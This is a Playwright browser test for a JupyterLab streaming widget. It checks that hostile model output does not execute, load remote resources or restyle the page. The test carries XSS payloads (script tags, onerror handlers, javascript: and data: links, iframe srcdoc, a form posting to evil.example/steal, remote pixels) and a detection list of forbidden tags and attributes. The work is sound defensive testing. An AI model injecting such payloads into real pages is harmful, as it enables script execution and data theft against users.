"""Hostile model output in a real JupyterLab + chromium.

One notebook streams every payload class of the issue into StreamViews at once: each payload
whole (one delta) and one character per frame (so the view renders the text split at every
position), and also as the reasoning text. The page is watched the whole time:

- a MutationObserver records every element or attribute ever added inside a view, so even a
  state that lasted one frame is checked: no script, frame, style, form, image, ``on*``
  attribute, ``javascript:``/``data:`` URL or ``style`` attribute;
- no window flag the payloads would set is ever set (and ``alert`` would be counted);
- every request the browser makes is counted (Playwright, browser level): none goes to any host
  but the lab server;
- the computed styles of the page's own elements are the same before and after;
- the words around each payload stay readable.

The same payloads run exhaustively in node (js/test/hostile.test.ts) and through the kernel
(tests/test_hostile.py). Guarantees listed in docs/guarantees.md.
"""

from __future__ import annotations

import re
import urllib.parse

import pytest

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]


def flag(name: str) -> str:
    return f"window.__pwned_{name.replace('-', '_')}=1"


PAYLOADS = {
    "script": f"<script>{flag('script')}</script>",
    "img-onerror": f'<img src=x onerror="{flag("img-onerror")}">',
    "javascript-link": f"[click me](javascript:{flag('javascript-link')})",
    "data-link": "[open](data:text/html;base64,"
    "PHNjcmlwdD5wYXJlbnQuX19wd25lZF9kYXRhX2xpbms9MTwvc2NyaXB0Pg==)",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned_iframe_srcdoc=1</script>"></iframe>',
    "svg-script": f"<svg><script>{flag('svg-script')}</script><circle r=4 /></svg>",
    "style": "<style>body { display: none !important } .jp-Notebook { background: red }</style>"
    '<p style="position:fixed;inset:0;background:red">cover</p>',
    "form": '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
    "external-image": "![pixel](https://evil.example/pixel.png) "
    '<img src="https://evil.example/raw.png"> <video poster="https://evil.example/p.png"></video>',
}

SETUP = """\
import streamwidget as sw
from streamwidget import Recording

PAYLOADS = {payloads!r}

def recording(name, text, per_char):
    if per_char:  # one character per frame: every split position is rendered
        events = [{{"t": 0.04 * i, "type": "text", "text": ch}} for i, ch in enumerate(text)]
        events += [{{"t": 0.04 * i, "type": "reasoning", "text": ch}}
                   for i, ch in enumerate(text[:40])]
        events.sort(key=lambda e: e["t"])
    else:
        events = [{{"t": 0.0, "type": "text", "text": text}},
                  {{"t": 0.0, "type": "reasoning", "text": text}}]
    events.append({{"t": events[-1]["t"] + 0.05, "type": "finish", "reason": "stop"}})
    return Recording.new(provider="hostile", model=name, events=events)
"""

RUN = """\
views = []
for name, payload in PAYLOADS.items():
    text = f"alpha {payload} omega"
    views.append(sw.replay(recording(name, text, per_char=False), speed=0))
    views.append(sw.replay(recording(name, text, per_char=True), speed=1))
display(*views)
"""

# Installed before the cells run: records anything dangerous ever added inside a view.
WATCH = r"""() => {
  const FORBIDDEN = new Set(["SCRIPT", "IFRAME", "FRAME", "OBJECT", "EMBED", "STYLE", "LINK",
    "META", "BASE", "FORM", "INPUT", "TEXTAREA", "SELECT", "VIDEO", "AUDIO", "SOURCE",
    "PICTURE", "SVG", "MATH", "IMG", "IMAGE", "TEMPLATE"]);
  const LOADS = ["src", "srcset", "poster", "background", "action", "formaction", "srcdoc",
    "style", "data", "xlink:href"];
  const BAD_URL = /^\s*(javascript|vbscript|data):/i;
  const seen = { violations: [], elements: 0, alerts: 0 };
  window.__swHostile = seen;
  window.alert = window.confirm = window.prompt = () => { seen.alerts += 1; };
  const inspect = (el) => {
    seen.elements += 1;
    const tag = el.nodeName.toUpperCase();
    if (FORBIDDEN.has(tag)) seen.violations.push(`<${tag.toLowerCase()}>`);
    for (const attr of Array.from(el.attributes || [])) {
      const key = attr.name.toLowerCase();
      if (key.startsWith("on") || LOADS.includes(key)) {
        seen.violations.push(`${key}= on <${tag.toLowerCase()}>`);
      }
      if (key === "href" && BAD_URL.test(attr.value)) {
        seen.violations.push(`href=${attr.value.slice(0, 40)}`);
      }
    }
  };
  const inView = (node) => node && node.nodeType === 1 && node.closest(".sw-stream");
  const observer = new MutationObserver((records) => {
    for (const record of records) {
      if (!inView(record.target)) continue;
      if (record.type === "attributes") inspect(record.target);
      for (const node of record.addedNodes) {
        if (node.nodeType !== 1) continue;
        inspect(node);
        node.querySelectorAll("*").forEach(inspect);
      }
    }
  });
  observer.observe(document.body, { subtree: true, childList: true, attributes: true });
}"""

# The page's own look, from computed styles of JupyterLab's elements.
STYLES = """() => {
  const pick = (sel) => {
    const el = document.querySelector(sel);
    if (!el) return null;
    const s = getComputedStyle(el);
    return [s.display, s.visibility, s.backgroundColor, s.color, s.fontFamily, s.position,
            s.opacity].join("|");
  };
  return Object.fromEntries(["body", "#jp-main-dock-panel", ".jp-Notebook", ".jp-Cell",
    ".jp-InputArea-editor", "#jp-top-panel", ".jp-NotebookPanel-toolbar"]
    .map((sel) => [sel, pick(sel)]));
}"""

REPORT = """() => {
  const views = Array.from(document.querySelectorAll(".sw-stream"));
  const inViews = views.flatMap((v) => Array.from(v.querySelectorAll("*")));
  return {
    flags: Object.keys(window).filter((k) => k.startsWith("__pwned")),
    seen: window.__swHostile,
    statuses: views.map((v) => v.dataset.status),
    // every run of the reply, in order (text and reasoning interleave in the per-character runs)
    texts: views.map((v) =>
      Array.from(v.querySelectorAll(".sw-text"), (t) => t.innerText.trim()).join("")),
    reasoning: views.map((v) =>
      Array.from(v.querySelectorAll(".sw-reasoning"), (r) => r.textContent.trim()).join("")),
    onAttrsInPage: Array.from(document.querySelectorAll("*")).flatMap((el) =>
      Array.from(el.attributes).filter((a) => a.name.startsWith("on")).map((a) => a.name)),
    jsUrlsInPage: Array.from(document.querySelectorAll("[href],[src],[action]")).map((el) =>
      el.getAttribute("href") || el.getAttribute("src") || el.getAttribute("action"))
      .filter((u) => /^\\s*javascript:/i.test(u)),
    styledInViews: inViews.filter((el) => el.hasAttribute("style")).length,
    sheetsFromViews: Array.from(document.styleSheets)
      .filter((s) => s.ownerNode && s.ownerNode.closest && s.ownerNode.closest(".sw-stream"))
      .length,
  };
}"""


def test_hostile_payloads_never_run_load_or_restyle_and_stay_readable(lab):
    lab_origin = urllib.parse.urlsplit(lab.server.url).netloc
    requests: list[str] = []
    external: list[str] = []

    def on_request(request):
        requests.append(request.url)
        host = urllib.parse.urlsplit(request.url).netloc
        if request.url.startswith(("data:", "blob:", "about:")) or host == lab_origin:
            return
        external.append(request.url)

    lab.page.on("request", on_request)
    # never wait on DNS for a host that cannot exist here: refuse anything not for the lab
    lab.page.route(re.compile(r"^https?://(?!" + re.escape(lab_origin) + r"/)"), _abort)

    notebook = lab.server.write_notebook(
        "hostile.ipynb", [("code", SETUP.format(payloads=PAYLOADS)), ("code", RUN)]
    )
    lab.open(notebook)
    lab.page.evaluate(WATCH)
    styles_before = lab.page.evaluate(STYLES)
    assert styles_before["body"] and styles_before[".jp-Notebook"]
    external_before = list(external)

    lab.run_all(timeout=120)
    expected = 2 * len(PAYLOADS)
    lab.page.wait_for_function(
        "n => document.querySelectorAll('.sw-stream[data-status=complete]').length === n",
        arg=expected,
        timeout=60_000,
        polling=200,
    )
    lab.page.wait_for_timeout(300)  # the last animation frames and mutation records
    report = lab.page.evaluate(REPORT)
    lab.screenshot("hostile-output")

    assert report["statuses"] == ["complete"] * expected
    assert report["flags"] == [], f"a payload ran: {report['flags']}"
    assert report["seen"]["alerts"] == 0
    assert report["seen"]["elements"] > 200, "the watcher saw the views being built"
    assert report["seen"]["violations"] == [], report["seen"]["violations"][:20]
    assert report["onAttrsInPage"] == [] and report["jsUrlsInPage"] == []
    assert report["styledInViews"] == 0 and report["sheetsFromViews"] == 0
    assert lab.page.evaluate(STYLES) == styles_before, "the page's own styles changed"
    assert external_before == [], f"JupyterLab itself went out: {external_before}"
    assert external == [], f"requests left for external hosts: {external}"
    assert any("/api/kernels" in url for url in requests), "requests are being counted"
    for text in report["texts"]:
        assert "alpha" in text and "omega" in text, f"not readable: {text!r}"
    assert all("alpha" in r for r in report["reasoning"])
    assert lab.page_errors == []


def _abort(route):
    route.abort()
